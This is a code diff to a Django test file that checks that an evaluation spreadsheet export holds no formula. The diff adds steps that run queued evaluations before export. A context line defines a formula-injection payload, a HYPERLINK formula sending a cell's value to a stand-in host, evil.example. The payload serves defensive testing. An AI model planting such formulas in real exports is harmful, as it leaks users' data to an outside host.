@@ -9,6 +9,7 @@ from openpyxl import load_workbook
 
 from engine.exports.workbook import csv_safe_row
 from engine.models import Evaluation, WorkItem
+from tests.factories import run_queued_evaluations
 from tests.oversight.scenario import at, build
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&D5,"x")'
@@ -52,10 +53,13 @@ def test_the_delay_register_export_holds_no_formula(world, client, payload_scena
 
 
 @pytest.mark.django_db
-def test_the_evaluation_export_holds_no_formula(world, client, payload_scenario):
+def test_the_evaluation_export_holds_no_formula(
+    world, client, payload_scenario, django_capture_on_commit_callbacks
+):
     client.force_login(world.evaluator)
-    with at("2026-04-03"):
+    with at("2026-04-03"), django_capture_on_commit_callbacks(execute=True):
         client.post(reverse("evaluation_list"), {"kind": "month", "year": 2026, "number": 3})
+        run_queued_evaluations()  # the worker, where a broker is configured
     evaluation = Evaluation.objects.get()
     response = client.get(reverse("evaluation_export", args=[evaluation.pk, "xlsx"]))
     assert response.status_code == 200
